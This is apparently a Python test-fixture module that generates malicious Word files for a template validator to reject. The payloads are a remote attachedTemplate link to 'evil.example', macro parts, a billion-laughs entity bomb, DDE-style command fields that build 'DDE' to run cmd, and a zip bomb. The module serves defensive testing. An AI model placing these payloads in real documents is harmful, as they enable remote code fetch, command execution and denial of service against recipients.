"""Word files that a template must not be, each made from one that is good."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Mapping

from docx import Document
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls

from workers.letters.filling import delivered
from workers.letters.word import line, pack, page

DOCUMENT, RELATIONSHIPS = "word/document.xml", "word/_rels/document.xml.rels"
TYPES, SETTINGS_RELATIONSHIPS = "[Content_Types].xml", "word/_rels/settings.xml.rels"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"


def good() -> bytes:
    return delivered("surat-dinas").read_bytes()


def template(*paragraphs: str) -> bytes:
    """A template of these paragraphs."""
    document = page()
    for words in paragraphs:
        line(document, words)
    return pack(document)


def changed(replaced: Mapping[str, tuple[bytes, bytes]], added: Mapping[str, bytes]) -> bytes:
    """A good template with words of its parts replaced, and parts added."""
    written = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(good())) as source, zipfile.ZipFile(written, "w") as target:
        for name in source.namelist():
            old, new = replaced.get(name, (b"", b""))
            content = source.read(name)
            assert old in content
            target.writestr(name, content.replace(old, new, 1) if old else content)
        for name, content in added.items():
            target.writestr(name, content)
    return written.getvalue()


def related(kind: str, target: str, *, external: bool = True) -> bytes:
    """With a relationship of the document to something."""
    mode = ' TargetMode="External"' if external else ""
    one = f'<Relationship Id="rId99" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>'.encode()
    end = b"</Relationships>"
    return changed({RELATIONSHIPS: (end, one + end)}, {})


def with_attached_template() -> bytes:
    """As Word writes a document whose template lies on a server."""
    relationships = (
        f'<Relationships xmlns="{PACKAGE}"><Relationship Id="rId1" '
        f'Type="{OFFICE}/attachedTemplate" Target="https://evil.example/t.dotm" '
        'TargetMode="External"/></Relationships>'
    )
    return changed({}, {SETTINGS_RELATIONSHIPS: relationships.encode()})


def with_macros() -> bytes:
    return changed({}, {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})


def macro_enabled() -> bytes:
    plain = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    enabled = b"application/vnd.ms-word.document.macroEnabled.main+xml"
    return changed({TYPES: (plain, enabled)}, {})


def with_entities() -> bytes:
    """The billion laughs."""
    entities = "".join(
        f'<!ENTITY a{at} "{f"&a{at - 1};" * 10 if at else "ha"}">' for at in range(10)
    )
    begin = b"<w:document "
    return changed({DOCUMENT: (begin, f"<!DOCTYPE x [{entities}]>".encode() + begin)}, {})


def with_field(*pieces: str, simple: bool = False) -> bytes:
    """With a field whose instruction is cut into pieces."""
    document = Document(io.BytesIO(good()))
    if simple:
        inside = f'<w:fldSimple w:instr="{pieces[0]}"><w:r><w:t>x</w:t></w:r></w:fldSimple>'
    else:
        told = "".join(f"<w:r><w:instrText>{each}</w:instrText></w:r>" for each in pieces)
        begin, end = (
            f'<w:r><w:fldChar w:fldCharType="{each}"/></w:r>' for each in ("begin", "end")
        )
        inside = begin + told + end
    document.element.body.insert(0, parse_xml(f"<w:p {nsdecls('w')}>{inside}</w:p>"))
    return pack(document)


def with_made_field() -> bytes:
    """With a field whose name another field makes: { { QUOTE 68 68 69 } ... }."""
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{each}"/></w:r>' for each in ("begin", "end"))
    inner = f"{begin}<w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r>{end}"
    rest = "<w:r><w:instrText> c:\\\\cmd</w:instrText></w:r>"
    paragraph = f"<w:p {nsdecls('w')}>{begin}{inner}{rest}{end}</w:p>"
    document = Document(io.BytesIO(good()))
    document.element.body.insert(0, parse_xml(paragraph))
    return pack(document)


def bomb(part: str, size: int) -> bytes:
    """With a part that is small as it lies there, and large once it is unpacked."""
    written = io.BytesIO(good())
    with (
        zipfile.ZipFile(written, "a", zipfile.ZIP_DEFLATED) as package,
        package.open(part, "w", force_zip64=True) as target,
    ):
        for _ in range(size >> 20):
            target.write(b" " * (1 << 20))
    return written.getvalue()
